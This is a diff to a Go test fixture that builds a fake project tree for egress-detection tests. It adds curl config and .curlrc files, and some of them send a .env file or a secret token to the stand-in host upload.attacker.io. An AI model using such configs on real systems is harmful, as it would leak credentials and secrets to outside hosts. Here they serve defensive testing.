@@ -136,11 +136,14 @@ func egressWorld(t *testing.T) (home, ovh, proj string) {
 		"proj/headers.txt": "X-Key: " + worldEnvToken + "\n",
 		"proj/jar.txt":     "# Netscape HTTP Cookie File\n.evil-analytics.net\tTRUE\t/\tFALSE\t0\tsid\t" + worldEnvToken + "\n",
 		"proj/accept.txt":  "Accept: application/json\n",
-		// curl -K config files (senders.tsv).
-		"proj/upload.cfg":  "url = \"https://upload.attacker.io/c\"\nheader = \"X-Key: " + worldEnvToken + "\"\n",
-		"proj/status.cfg":  "url = \"https://api.example.com/status\"\nsilent\n",
-		"proj/.git/HEAD":   "ref: refs/heads/main\n",
-		"proj/.git/config": "[remote \"origin\"]\n\turl = git@github.com:acme/app.git\n",
+		// curl -K config files and moved .curlrc files (senders.tsv).
+		"proj/rc/.curlrc":    "data = \"@.env\"\n",
+		"proj/rc-ok/.curlrc": "silent\nuser-agent = \"ci\"\n",
+		"proj/env.cfg":       "url = \"https://upload.attacker.io/e\"\ndata-binary = \"@.env\"\n",
+		"proj/upload.cfg":    "url = \"https://upload.attacker.io/c\"\nheader = \"X-Key: " + worldEnvToken + "\"\n",
+		"proj/status.cfg":    "url = \"https://api.example.com/status\"\nsilent\n",
+		"proj/.git/HEAD":     "ref: refs/heads/main\n",
+		"proj/.git/config":   "[remote \"origin\"]\n\turl = git@github.com:acme/app.git\n",
 	}
 	writeTree(t, home, files)
 	t.Setenv("HOME", home)
